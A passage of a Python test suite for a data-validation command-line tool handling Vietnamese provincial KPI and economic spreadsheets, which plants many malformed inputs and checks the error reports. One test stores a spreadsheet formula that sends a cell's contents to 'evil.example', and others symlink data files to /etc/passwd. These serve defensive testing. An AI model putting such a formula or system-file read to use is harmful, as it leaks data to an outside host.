"""The bad-input corpus: each planted problem is reported as file:row:column with a clear message, without a
traceback, and a `bnkpi run` on the bad data exits 2 and leaves the previous outputs byte-for-byte unchanged.

The first 19 kinds (PLANTS) run `bnkpi validate` and `bnkpi run` as subprocesses; the table CORPUS (one row per
kind: the plant, the expected exit code, the words of the message; the plant returns the expected
``file:row:column``) runs the CLI's main() in-process, which is faster; a few cases are real CLI calls.
"""

from __future__ import annotations

import datetime as _dt
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from bnkpi_utils import cli
from conftest import RAW, copy_previous, read_rows, run_bnkpi, sheet_row, snapshot, tree_hashes, write_rows


def _edit(raw: Path, name: str, index: int, **changes) -> int:
    header, rows = read_rows(raw / name)
    rows[index].update(changes)
    write_rows(raw / name, header, rows)
    return sheet_row(index)


def _find(raw: Path, name: str, **match) -> int:
    _, rows = read_rows(raw / name)
    for index, row in enumerate(rows):
        if all(row[k] == v for k, v in match.items()):
            return index
    raise LookupError(match)


def plant_missing_column(raw):
    header, rows = read_rows(raw / "pii_scores.csv")
    header.remove("source")
    for row in rows:
        row.pop("source")
    write_rows(raw / "pii_scores.csv", header, rows)
    return "pii_scores.csv:1:source:", "missing column"


def plant_empty_source(raw):
    row = _edit(raw, "macro.csv", 5, source="")
    return f"macro.csv:{row}:source:", "no source"


def plant_mixed_decimal_comma(raw):
    index = _find(raw, "pii_scores.csv", edition="2025", province="Bắc Ninh", component="PII")
    row = _edit(raw, "pii_scores.csv", index, score="48,76")
    return f"pii_scores.csv:{row}:score:", "mixes Vietnamese"


def plant_ambiguous_number(raw):
    # value_high holds whole numbers only, so nothing in the column tells how to read "1.260"
    index = _find(raw, "targets.csv", target_id="QD123-2.1c")
    row = _edit(raw, "targets.csv", index, value_high="1.260")
    return f"targets.csv:{row}:value_high:", "ambiguous number"


def plant_unknown_province(raw):
    index = _find(raw, "pii_scores.csv", edition="2024", province="Bắc Giang", component="PII")
    row = _edit(raw, "pii_scores.csv", index, province="Bac Giangg")
    return f"pii_scores.csv:{row}:province:", "did you mean 'Bắc Giang'"


def plant_score_out_of_range(raw):
    index = _find(raw, "pii_scores.csv", edition="2023", province="Hà Nội", component="PII")
    row = _edit(raw, "pii_scores.csv", index, score="162.86")
    return f"pii_scores.csv:{row}:score:", "above the allowed range"


def plant_rank_above_n_units(raw):
    index = _find(raw, "pii_scores.csv", edition="2025", province="Gia Lai", component="PII")
    row = _edit(raw, "pii_scores.csv", index, rank="41")
    return f"pii_scores.csv:{row}:rank:", "above n_units 34"


def plant_wrong_n_units(raw):
    index = _find(raw, "pii_scores.csv", edition="2024", province="Hà Nội", component="PII")
    row = _edit(raw, "pii_scores.csv", index, n_units="34")
    return f"pii_scores.csv:{row}:n_units:", "ranks 63 units"


def plant_duplicate_key(raw):
    header, rows = read_rows(raw / "kpi_actuals.csv")
    rows.append(dict(rows[3]))
    write_rows(raw / "kpi_actuals.csv", header, rows)
    return f"kpi_actuals.csv:{sheet_row(len(rows) - 1)}:kind:", "duplicate row"


def plant_conflicting_duplicate(raw):
    header, rows = read_rows(raw / "kpi_actuals.csv")
    clone = dict(rows[3])
    clone["value"] = str(float(clone["value"]) + 1)
    rows.append(clone)
    write_rows(raw / "kpi_actuals.csv", header, rows)
    return f"kpi_actuals.csv:{sheet_row(len(rows) - 1)}:kind:", "conflicting duplicate"


def plant_text_in_numeric_column(raw):
    row = _edit(raw, "macro.csv", 10, value="n/a")
    return f"macro.csv:{row}:value:", "not a number: 'n/a'"


def plant_unknown_operator(raw):
    row = _edit(raw, "targets.csv", 0, operator="≥")
    return f"targets.csv:{row}:operator:", "is not one of"


def plant_not_utf8(raw):
    path = raw / "province_mergers_2025.csv"
    text = path.read_text(encoding="utf-8")
    path.write_bytes(text.encode("cp1258", errors="replace"))
    return "province_mergers_2025.csv:2:-:", "not UTF-8"


def plant_unknown_vintage_tag(raw):
    row = _edit(raw, "macro.csv", 7, note="[guess] a planted tag")
    return f"macro.csv:{row}:note:", "unknown tag [guess]"


def plant_untagged_vintages(raw):
    header, rows = read_rows(raw / "macro.csv")
    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
    clone = dict(rows[index], value="6.5", note="another publication, no vintage tag", source="planted")
    rows[index]["note"] = ""
    rows.append(clone)
    write_rows(raw / "macro.csv", header, rows)
    return f"macro.csv:{sheet_row(len(rows) - 1)}:value:", "conflicting duplicate"


def plant_province_not_in_2025_map(raw):
    index = _find(raw, "pii_scores.csv", edition="2025", province="Gia Lai", component="PII")
    row = _edit(raw, "pii_scores.csv", index, province="Bắc Giang")
    return f"pii_scores.csv:{row}:province:", "part of Bắc Ninh"


def plant_period_mean_without_period(raw):
    index = _find(raw, "targets.csv", target_id="KH20-10")
    row = _edit(raw, "targets.csv", index, period_start="")
    return f"targets.csv:{row}:period_start:", "needs period_start"


def plant_missing_file(raw):
    (raw / "targets.csv").unlink()
    return "targets.csv:0:-:", "required file missing"


def plant_error_in_xlsx(raw):
    import openpyxl

    header, rows = read_rows(raw / "kpi_actuals.csv")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append([row[h] for h in header])
    sheet.cell(row=9, column=header.index("region") + 1, value="Hà Nôi Nôi")
    book.save(raw / "kpi_actuals.xlsx")
    (raw / "kpi_actuals.csv").unlink()
    return "kpi_actuals.xlsx:9:region:", "unknown province"


PLANTS = [
    plant_missing_column, plant_empty_source, plant_mixed_decimal_comma, plant_ambiguous_number,
    plant_unknown_province, plant_score_out_of_range, plant_rank_above_n_units, plant_wrong_n_units,
    plant_duplicate_key, plant_conflicting_duplicate, plant_text_in_numeric_column, plant_unknown_operator,
    plant_not_utf8, plant_unknown_vintage_tag, plant_untagged_vintages, plant_province_not_in_2025_map,
    plant_period_mean_without_period, plant_missing_file, plant_error_in_xlsx,
]


def test_shipped_raw_data_are_valid():
    result = run_bnkpi("validate")
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.strip() == ""  # quiet when not a terminal


RUN_CHECKED = (plant_missing_column, plant_not_utf8, plant_error_in_xlsx, plant_conflicting_duplicate)


@pytest.mark.parametrize("plant", PLANTS, ids=[p.__name__.removeprefix("plant_") for p in PLANTS])
def test_planted_problem_is_reported_and_run_changes_nothing(plant, raw_copy, good_run, tmp_path):
    prefix, words = plant(raw_copy)
    result = run_bnkpi("validate", "--raw-dir", str(raw_copy))
    assert result.returncode == 2
    assert "Traceback" not in result.stdout + result.stderr
    matching = [line for line in result.stdout.splitlines() if line.startswith(prefix)]
    assert matching, f"no line starting {prefix!r} in:\n{result.stdout}"
    assert any(words in line for line in matching), matching
    if plant not in RUN_CHECKED:  # `bnkpi run` validates with the same code: a few kinds show it stops and keeps
        return                    # the previous outputs (each extra run costs seconds and tests nothing new)

    previous = tmp_path / "previous"
    before = copy_previous(good_run, previous)
    run = run_bnkpi("run", "--raw-dir", str(raw_copy), "--output-dir", str(previous / "outputs"),
                    "--processed-dir", str(previous / "processed"))
    assert run.returncode == 2
    assert "Traceback" not in run.stderr
    assert prefix in run.stderr
    assert snapshot(previous) == before
    leftovers = [p.name for p in previous.iterdir() if "staging" in p.name or p.name.endswith("_failed")]
    assert leftovers == []


def test_every_planted_problem_is_listed_in_one_validation(raw_copy):
    """Several problems in several files: all of them are reported, not only the first."""
    planted = [plant(raw_copy) for plant in (plant_empty_source, plant_unknown_province, plant_score_out_of_range,
                                             plant_conflicting_duplicate, plant_unknown_operator,
                                             plant_period_mean_without_period)]
    result = run_bnkpi("validate", "--raw-dir", str(raw_copy))
    assert result.returncode == 2
    lines = result.stdout.splitlines()
    for prefix, words in planted:
        assert any(line.startswith(prefix) and words in line for line in lines), (prefix, lines)


def test_bom_and_vietnamese_notation_file_loads(raw_copy):
    """A file saved by Excel (BOM) in Vietnamese notation is valid and read correctly."""
    from bnkpi_utils.validate import validate_raw

    header, rows = read_rows(raw_copy / "pii_scores.csv")
    for row in rows:
        row["score"] = row["score"].replace(".", ",")
    write_rows(raw_copy / "pii_scores.csv", header, rows, encoding="utf-8-sig")
    assert (raw_copy / "pii_scores.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    result = validate_raw(raw_copy)
    assert result.ok, result.problems[:3]
    scores = result.tables["pii_scores"]
    bn = scores[(scores.edition == 2025) & (scores.province == "Bắc Ninh") & (scores.component == "PII")]
    assert bn["score"].iloc[0] == pytest.approx(48.76)


def test_valid_xlsx_replaces_csv(raw_copy):
    import openpyxl

    from bnkpi_utils.validate import validate_raw

    header, rows = read_rows(raw_copy / "targets.csv")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append([float(row[h]) if h in ("value", "value_high") and row[h] else row[h] for h in header])
    book.save(raw_copy / "targets.xlsx")
    (raw_copy / "targets.csv").unlink()
    result = validate_raw(raw_copy)
    assert result.ok, result.problems[:3]
    assert len(result.tables["targets"]) == len(rows)


def test_raw_files_are_never_modified(raw_copy):
    from bnkpi_utils.clean import clean_all
    from bnkpi_utils.validate import validate_raw

    before = tree_hashes(raw_copy)
    clean_all(validate_raw(raw_copy))
    assert tree_hashes(raw_copy) == before


# --------------------------------------------------------------------------------------------------------------
# The corpus beyond the first 19 kinds (the review of November 2026): one row per kind of bad input, each planted
# in a copy of data/raw and checked in one `bnkpi validate` (in-process: the CLI's own main(), so the top-level
# handler and the printing are tested too). A plant returns the spreadsheet location it expects to be blamed
# (``file:row:column``), or None for an input accepted on purpose.

NEXT_YEARS = _dt.date.today().year + 3  # a year no value can have reached yet


def _lines(raw: Path, name: str) -> list[str]:
    return (raw / name).read_text(encoding="utf-8").split("\n")


def _set_lines(raw: Path, name: str, lines: list[str]) -> None:
    (raw / name).write_text("\n".join(lines), encoding="utf-8")


def _append(raw: Path, name: str, **row) -> int:
    header, rows = read_rows(raw / name)
    rows.append({h: row.get(h, "") for h in header})
    write_rows(raw / name, header, rows)
    return sheet_row(len(rows) - 1)


def _kpi_to_xlsx(raw: Path, split_at: int | None = None, edit=None) -> None:
    """kpi_actuals.csv rewritten as kpi_actuals.xlsx (numbers as numbers), rows [split_at:] on a second sheet."""
    import openpyxl

    header, rows = read_rows(raw / "kpi_actuals.csv")
    book = openpyxl.Workbook()
    sheets = [book.active] + ([book.create_sheet("Sheet2")] if split_at else [])
    parts = [rows[:split_at], rows[split_at:]] if split_at else [rows]
    for sheet, part in zip(sheets, parts):
        sheet.append(header)
        for row in part:
            sheet.append([float(row[h]) if h in ("year", "value") else row[h] for h in header])
    if edit:
        edit(book, header)
    book.save(raw / "kpi_actuals.xlsx")
    (raw / "kpi_actuals.csv").unlink()


def bad_negative_count(raw):
    index = _find(raw, "kpi_actuals.csv", indicator="st_works_accepted_per_year", kind="actual")
    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', index, value='-17')}:value"


def bad_growth_1e308_in_digits(raw):
    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='1' + '0' * 308)}:value"


def bad_grdp_401_digits(raw):
    index = _find(raw, "macro.csv", indicator="grdp_current")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='9' * 401)}:value"


def bad_percent_far_out_of_range(raw):
    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='6500')}:value"


def bad_nul_in_source(raw):
    row = _edit(raw, "kpi_actuals.csv", 20, source="VCCI PCI\x00 profile")
    return f"kpi_actuals.csv:{row}:source"


def bad_header_only_mergers(raw):
    _set_lines(raw, "province_mergers_2025.csv", _lines(raw, "province_mergers_2025.csv")[:1] + [""])
    return "province_mergers_2025.csv:2:-"


def bad_header_only_targets(raw):
    _set_lines(raw, "targets.csv", _lines(raw, "targets.csv")[:1] + [""])
    return "targets.csv:2:-"


def bad_header_only_pii(raw):
    _set_lines(raw, "pii_scores.csv", _lines(raw, "pii_scores.csv")[:1] + [""])
    return "pii_scores.csv:2:-"


def bad_pii_without_bac_ninh(raw):
    header, rows = read_rows(raw / "pii_scores.csv")
    write_rows(raw / "pii_scores.csv", header, [r for r in rows if r["province"] != "Bắc Ninh"])
    return "pii_scores.csv:0:province"


def bad_unclosed_quote_swallows_rows(raw):
    lines = _lines(raw, "kpi_actuals.csv")
    lines[59] = lines[59].replace(",https://", ',"https://', 1)  # row 60: a quote opened, never closed
    _set_lines(raw, "kpi_actuals.csv", lines)
    return "kpi_actuals.csv:60:source"


def bad_unclosed_quote_to_end_of_file(raw):
    lines = [line for line in _lines(raw, "macro.csv") if line]
    plain = [line for line in lines[1:] if '"' not in line][:3]
    planted = 'Bắc Ninh,2019,grdp_growth_9m_pct,6.1,percent,"https://bacninh.gov.vn/planted,'
    _set_lines(raw, "macro.csv", lines + [planted] + plain + [""])  # the quote runs to the end of the file
    return f"macro.csv:{len(lines) + 1}:source"


def bad_two_rows_with_extra_cells(raw):
    lines = _lines(raw, "kpi_actuals.csv")
    for row in (53, 61):
        cells = lines[row - 1].split(",")
        cells[3] = cells[3] + ",5"  # value 46 → "46,5" unquoted: one cell too many
        lines[row - 1] = ",".join(cells)
    _set_lines(raw, "kpi_actuals.csv", lines)
    return "kpi_actuals.csv:53:-", "kpi_actuals.csv:61:-"


def bad_semicolon_separated(raw):
    header, rows = read_rows(raw / "kpi_actuals.csv")
    with (raw / "kpi_actuals.csv").open("w", encoding="utf-8-sig", newline="") as fh:
        import csv

        writer = csv.writer(fh, delimiter=";", lineterminator="\r\n")
        writer.writerow(header)
        writer.writerows([[r[h].replace(".", ",") if h == "value" else r[h] for h in header] for r in rows])
    return "kpi_actuals.csv:1:-"


def bad_vietnamese_thousands_in_english_column(raw):
    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='67.200.000')}:value"


def bad_future_actual(raw):
    row = _append(raw, "kpi_actuals.csv", indicator="pci_rank", region="Bắc Ninh", year=str(NEXT_YEARS), value="3",
                  unit="rank of 34", kind="actual", source="planted")
    return f"kpi_actuals.csv:{row}:year"


def bad_future_official_macro(raw):
    row = _append(raw, "macro.csv", region="Bắc Ninh", year=str(NEXT_YEARS), indicator="grdp_growth_pct",
                  value="11", unit="percent", source="planted", note="[official]")
    return f"macro.csv:{row}:year"


def bad_future_pii_edition(raw):
    index = _find(raw, "pii_scores.csv", edition="2025", province="Gia Lai", component="PII")
    return f"pii_scores.csv:{_edit(raw, 'pii_scores.csv', index, edition=str(NEXT_YEARS))}:edition"


def bad_target_year_before_issued(raw):
    index = _find(raw, "targets.csv", target_id="KH20-16")
    return f"targets.csv:{_edit(raw, 'targets.csv', index, target_year='2001')}:target_year"


def bad_hue_2024_in_pii(raw):
    index = _find(raw, "pii_scores.csv", edition="2024", province="Bắc Giang", component="PII")
    return f"pii_scores.csv:{_edit(raw, 'pii_scores.csv', index, province='Hue')}:province"


def bad_hue_2023_in_macro(raw):
    row = _append(raw, "macro.csv", region="Hue", year="2023", indicator="grdp_current", value="70000",
                  unit="billion VND", source="planted")
    return f"macro.csv:{row}:region"


def bad_directory_named_like_file(raw):
    (raw / "kpi_actuals.csv").unlink()
    (raw / "kpi_actuals.csv").mkdir()
    return "kpi_actuals.csv:0:-"


def bad_symlink_out_of_raw(raw):
    (raw / "kpi_actuals.csv").unlink()
    (raw / "kpi_actuals.csv").symlink_to("/etc/passwd")
    return "kpi_actuals.csv:0:-"


def bad_supplement_symlink_out_of_raw(raw):
    (raw / "macro_extra.csv").symlink_to("/etc/hostname")
    return "macro_extra.csv:0:-"


def bad_dangling_symlink(raw):
    (raw / "targets.csv").unlink()
    (raw / "targets.csv").symlink_to(raw / "no-such-file.csv")
    return "targets.csv:0:-"


def bad_xlsx_split_over_sheets(raw):
    _kpi_to_xlsx(raw, split_at=53)
    return "kpi_actuals.xlsx:0:-"


def bad_xlsx_1e308(raw):
    def edit(book, header):
        book.active.cell(row=52, column=header.index("value") + 1, value=1e308)
    _kpi_to_xlsx(raw, edit=edit)
    return "kpi_actuals.xlsx:52:value"


def bad_xlsx_formula_without_result(raw):
    def edit(book, header):
        book.active.cell(row=52, column=header.index("value") + 1, value="=3+1")
    _kpi_to_xlsx(raw, edit=edit)  # openpyxl, like every script, saves formulas without their result
    return "kpi_actuals.xlsx:52:value"


def bad_xlsx_infinite_cell(raw):
    import zipfile

    def edit(book, header):
        book.active.cell(row=52, column=header.index("value") + 1, value=123456.5)
    _kpi_to_xlsx(raw, edit=edit)
    # Excel cannot store an infinite number; a writer that prints a too large float puts 1E+309 in the cell
    path = raw / "kpi_actuals.xlsx"
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"<v>123456.5</v>", b"<v>1E+309</v>")
    with zipfile.ZipFile(path, "w") as book:
        for name, data in parts.items():
            book.writestr(name, data)
    return "kpi_actuals.xlsx:52:value"


def bad_inf_text(raw):
    return f"macro.csv:{_edit(raw, 'macro.csv', 12, value='inf')}:value"


def good_xlsx_instructions_sheet_first(raw):
    def edit(book, header):
        notes = book.create_sheet("Hướng dẫn", 0)
        notes.append(["Điền số liệu vào trang tính 'Sheet', một dòng cho mỗi giá trị."])
    _kpi_to_xlsx(raw, edit=edit)


def good_note_of_200_kb(raw):
    index = _find(raw, "pii_scores.csv", edition="2025", province="Bắc Ninh", component="PII")
    _edit(raw, "pii_scores.csv", index, note="Ghi chú dài, có dấu phẩy. " * 8000)


def good_space_thousands_crlf_and_reordered_columns(raw):
    header, rows = read_rows(raw / "macro.csv")
    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
    rows[index]["value"] = "67 200"
    with (raw / "macro.csv").open("w", encoding="utf-8", newline="") as fh:
        import csv

        writer = csv.DictWriter(fh, fieldnames=header[::-1], lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)


def good_extra_column_spaced_header_and_trailing_empty_cells(raw):
    lines = [line for line in _lines(raw, "kpi_actuals.csv") if line]
    header = [f" {h}  " if h == "source" else h for h in lines[0].split(",")]
    lines = [",".join(header) + ",comment"] + [line + ",ghi chú" for line in lines[1:]]
    lines[5] += "," * 100_000
    _set_lines(raw, "kpi_actuals.csv", lines + [""])


def good_negative_growth_and_formula_like_text(raw):
    # a real negative growth rate and a source that starts with '=' are data, not errors (the CSV writer defuses)
    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
    _edit(raw, "macro.csv", index, value="-3.5")
    _edit(raw, "kpi_actuals.csv", 20, source='=HYPERLINK("http://evil.example/?q="&A1,"Nguồn")')


# Kinds the suite already refused before the review, kept as regressions (one row each in CORPUS).

def bad_year_20255(raw):
    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, year='20255')}:year"


def bad_date_in_year_cell(raw):
    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, year='01/01/2019')}:year"


def bad_date_in_value_cell(raw):
    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, value='2019-01-04')}:value"


def bad_apostrophe_thousands(raw):
    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value=chr(39).join(['67', '200']))}:value"


def bad_indian_grouping(raw):
    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='6,72,00,000')}:value"


def bad_dash_marker_in_required_value(raw):
    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, value='-')}:value"


def bad_duplicated_header(raw):
    lines = _lines(raw, "kpi_actuals.csv")
    _set_lines(raw, "kpi_actuals.csv", [lines[0] + ",value"] + [line + ",1" for line in lines[1:] if line] + [""])
    return "kpi_actuals.csv:1:value"


def bad_misspelt_optional_column(raw):
    lines = _lines(raw, "macro.csv")
    lines[0] = lines[0].replace(",note", ",notes")
    _set_lines(raw, "macro.csv", lines)
    return "macro.csv:1:note"


def bad_empty_file(raw):
    (raw / "targets.csv").write_bytes(b"")
    return "targets.csv:1:-"


def bad_utf16(raw):
    text = (raw / "kpi_actuals.csv").read_text(encoding="utf-8")
    (raw / "kpi_actuals.csv").write_bytes(text.encode("utf-16"))
    return "kpi_actuals.csv:1:-"


def bad_repeated_header_inside(raw):
    lines = _lines(raw, "kpi_actuals.csv")
    lines.insert(51, lines[0])
    _set_lines(raw, "kpi_actuals.csv", lines)
    return "kpi_actuals.csv:52:-"


def bad_zero_width_space_in_province(raw):
    row = _edit(raw, "kpi_actuals.csv", 30, region="Bắc\u200bNinh")
    return f"kpi_actuals.csv:{row}:region"


def bad_homoglyph_in_indicator(raw):
    index = _find(raw, "kpi_actuals.csv", indicator="pci_rank", region="Bắc Giang", year="2010")
    row = _edit(raw, "kpi_actuals.csv", index, indicator="pci_r\u0430nk")  # Cyrillic 'а'
    return f"kpi_actuals.csv:{row}:indicator"


def bad_issued_month_13(raw):
    return f"targets.csv:{_edit(raw, 'targets.csv', 3, issued='2026-13')}:issued"


def bad_rank_zero(raw):
    index = _find(raw, "kpi_actuals.csv", indicator="pci_rank", region="Bắc Giang", year="2010")
    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', index, value='0')}:value"


def bad_csv_and_xlsx_both(raw):
    import shutil as _shutil

    _kpi_to_xlsx(raw)
    _shutil.copy(RAW / "kpi_actuals.csv", raw / "kpi_actuals.csv")
    return "kpi_actuals.xlsx:0:-"


def bad_csv_renamed_xlsx(raw):
    (raw / "kpi_actuals.csv").rename(raw / "kpi_actuals.xlsx")
    return "kpi_actuals.xlsx:1:-"


def bad_between_high_below(raw):
    index = _find(raw, "targets.csv", operator="between")
    header, rows = read_rows(raw / "targets.csv")
    high = str(float(rows[index]["value"]) - 1)
    return f"targets.csv:{_edit(raw, 'targets.csv', index, value_high=high)}:value_high"


def bad_unknown_kind(raw):
    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, kind='forecast')}:kind"

def bad_after_quoted_line_breaks(raw):
    """Legitimate quoted line breaks (with commas) in a note must neither count as rows nor look like an open quote."""
    header, rows = read_rows(raw / "macro.csv")
    rows[2]["note"] = "first line, with a comma\nsecond line, another comma\nthird, and last"
    rows[60]["region"] = "Bắc Ninhh"
    write_rows(raw / "macro.csv", header, rows)
    return f"macro.csv:{sheet_row(60)}:region"


def bad_after_mixed_line_endings(raw):
    lines = [line for line in _lines(raw, "kpi_actuals.csv") if line]
    cells = lines[61].split(",")
    cells[1] = "Bắc Ninhh"
    lines[61] = ",".join(cells)
    endings = ["\n", "\r\n", "\r"]
    text = "".join(line + endings[i % 3] for i, line in enumerate(lines))
    (raw / "kpi_actuals.csv").write_bytes(text.encode("utf-8"))
    return "kpi_actuals.csv:62:region"


# kind, plant, expected exit code, words every blamed line must contain (all lines for a plant naming two rows)
CORPUS = [
    ("negative_count", bad_negative_count, 2, "below the plausible range"),
    ("growth_1e308_in_digits", bad_growth_1e308_in_digits, 2, "implausibly large"),
    ("grdp_401_digits_is_inf", bad_grdp_401_digits, 2, "not a finite number"),
    ("percent_out_of_range", bad_percent_far_out_of_range, 2, "a percentage"),
    ("nul_in_source", bad_nul_in_source, 2, "NUL byte"),
    ("header_only_mergers", bad_header_only_mergers, 2, "header but no rows"),
    ("header_only_targets", bad_header_only_targets, 2, "header but no rows"),
    ("header_only_pii", bad_header_only_pii, 2, "header but no rows"),
    ("pii_without_bac_ninh", bad_pii_without_bac_ninh, 2, "no PII score or rank for Bắc Ninh"),
    ("unclosed_quote_swallows_rows", bad_unclosed_quote_swallows_rows, 2, "look like rows of their own"),
    ("unclosed_quote_to_end_of_file", bad_unclosed_quote_to_end_of_file, 2, "look like rows of their own"),
    ("two_rows_with_extra_cells", bad_two_rows_with_extra_cells, 2, "needs quotes"),
    ("semicolon_separated", bad_semicolon_separated, 2, "separated by semicolons"),
    ("vi_thousands_in_en_column", bad_vietnamese_thousands_in_english_column, 2, "'67.200.000' here is Vietnamese"),
    ("future_actual", bad_future_actual, 2, "after today"),
    ("future_official_macro", bad_future_official_macro, 2, "after today"),
    ("future_pii_edition", bad_future_pii_edition, 2, "after today"),
    ("target_year_before_issued", bad_target_year_before_issued, 2, "before the document was issued"),
    ("hue_2024_in_pii", bad_hue_2024_in_pii, 2, "did you mean 'Thừa Thiên Huế'"),
    ("hue_2023_in_macro", bad_hue_2023_in_macro, 2, "did you mean 'Thừa Thiên Huế'"),
    ("directory_named_like_file", bad_directory_named_like_file, 2, "is a folder"),
    ("symlink_out_of_raw", bad_symlink_out_of_raw, 2, "outside the raw-data folder"),
    ("supplement_symlink_out_of_raw", bad_supplement_symlink_out_of_raw, 2, "outside the raw-data folder"),
    ("dangling_symlink", bad_dangling_symlink, 2, "does not exist"),
    ("xlsx_split_over_sheets", bad_xlsx_split_over_sheets, 2, "more than one sheet"),
    ("xlsx_1e308", bad_xlsx_1e308, 2, "implausibly large"),
    ("xlsx_formula_without_result", bad_xlsx_formula_without_result, 2, "'=3+1' without a saved result"),
    ("xlsx_infinite_cell", bad_xlsx_infinite_cell, 2, "not a finite number"),
    ("inf_text", bad_inf_text, 2, "not a number: 'inf'"),
    ("year_20255", bad_year_20255, 2, "above the allowed range"),
    ("date_in_year_cell", bad_date_in_year_cell, 2, "not a number: '01/01/2019'"),
    ("date_in_value_cell", bad_date_in_value_cell, 2, "not a number: '2019-01-04'"),
    ("apostrophe_thousands", bad_apostrophe_thousands, 2, "not a number"),
    ("indian_grouping", bad_indian_grouping, 2, "thousands separators in the wrong places"),
    ("dash_marker_in_required_value", bad_dash_marker_in_required_value, 2, "not a number: '-'"),
    ("duplicated_header", bad_duplicated_header, 2, "appears more than once"),
    ("misspelt_optional_column", bad_misspelt_optional_column, 2, "missing column 'note'"),
    ("empty_file", bad_empty_file, 2, "the file is empty"),
    ("utf16", bad_utf16, 2, "UTF-16"),
    ("repeated_header_inside", bad_repeated_header_inside, 2, "header row is repeated"),
    ("zero_width_space_in_province", bad_zero_width_space_in_province, 2, "did you mean 'Bắc Ninh'"),
    ("homoglyph_in_indicator", bad_homoglyph_in_indicator, 2, "lower_snake_case"),
    ("issued_month_13", bad_issued_month_13, 2, "not a date: '2026-13'"),
    ("rank_zero", bad_rank_zero, 2, "whole number ≥ 1"),
    ("csv_and_xlsx_both", bad_csv_and_xlsx_both, 2, "keep only one"),
    ("csv_renamed_xlsx", bad_csv_renamed_xlsx, 2, "cannot be opened"),
    ("between_high_below", bad_between_high_below, 2, "is below value"),
    ("unknown_kind", bad_unknown_kind, 2, "is not one of: actual, estimate, plan"),
    ("quoted_line_breaks_then_error", bad_after_quoted_line_breaks, 2, "did you mean 'Bắc Ninh'"),
    ("mixed_line_endings_then_error", bad_after_mixed_line_endings, 2, "did you mean 'Bắc Ninh'"),
    ("xlsx_instructions_sheet_first", good_xlsx_instructions_sheet_first, 0, None),
    ("note_of_200_kb", good_note_of_200_kb, 0, None),
    ("space_thousands_crlf_reordered", good_space_thousands_crlf_and_reordered_columns, 0, None),
    ("extra_column_spaced_header_trailing_cells", good_extra_column_spaced_header_and_trailing_empty_cells, 0, None),
    ("negative_growth_formula_like_text", good_negative_growth_and_formula_like_text, 0, None),
]


def validate_in_process(raw: Path, capsys) -> tuple[int, list[str], str]:
    code = cli.main(["validate", "--raw-dir", str(raw)])
    out, err = capsys.readouterr()
    return code, out.splitlines(), err


@pytest.mark.parametrize("kind, plant, exit_code, words", CORPUS, ids=[c[0] for c in CORPUS])
def test_corpus(kind, plant, exit_code, words, raw_copy, capsys):
    expected = plant(raw_copy)
    code, lines, err = validate_in_process(raw_copy, capsys)
    assert "Traceback" not in "\n".join(lines) + err
    assert code == exit_code, lines
    if exit_code == 0:
        assert lines == []
        return
    prefixes = expected if isinstance(expected, tuple) else (expected,)
    for prefix in prefixes:
        blamed = [line for line in lines if line.startswith(prefix)]
        assert blamed, f"no line starting {prefix!r} in:\n" + "\n".join(lines[:20])
        assert all(words in line for line in blamed), blamed
    # the planted problem is the only one: no valid row is blamed besides it
    assert all(line.startswith(prefixes) for line in lines), lines


def test_mixed_notation_blames_only_the_stray_value_and_reads_the_rest(raw_copy):
    from bnkpi_utils.validate import validate_raw

    expected = bad_vietnamese_thousands_in_english_column(raw_copy)
    result = validate_raw(raw_copy)
    assert [f"{p.file}:{p.row}:{p.column}" for p in result.problems] == [expected]
    macro = result.tables["macro"]
    # a value that alone could be read both ways ('1,330' vs '1.330') follows the column's English notation
    row = macro[(macro.region == "Bắc Giang") & (macro.year == "2017") & (macro.indicator == "grdp_current")]
    assert row["value"].iloc[0] == 67_200_000


def test_accepted_inputs_are_read_right(raw_copy):
    from bnkpi_utils.validate import validate_raw

    good_space_thousands_crlf_and_reordered_columns(raw_copy)
    good_note_of_200_kb(raw_copy)
    result = validate_raw(raw_copy)
    assert result.ok, result.problems[:3]
    macro, pii = result.tables["macro"], result.tables["pii_scores"]
    assert macro[(macro.region == "Bắc Giang") & (macro.year == "2017")
                 & (macro.indicator == "grdp_current")]["value"].tolist() == [67200.0]
    assert max(len(n) if isinstance(n, str) else 0 for n in pii["note"]) == len("Ghi chú dài, có dấu phẩy. " * 8000) - 1  # stripped


def test_unreadable_file_is_refused_not_a_traceback(raw_copy, capsys, monkeypatch):
    """Mode 000 cannot be tried as root (CAP_DAC_OVERRIDE reads anyway): the refusal of open() is simulated."""
    real_open = os.open

    def refuse(path, *args, **kwargs):
        if str(path).endswith("kpi_actuals.csv"):
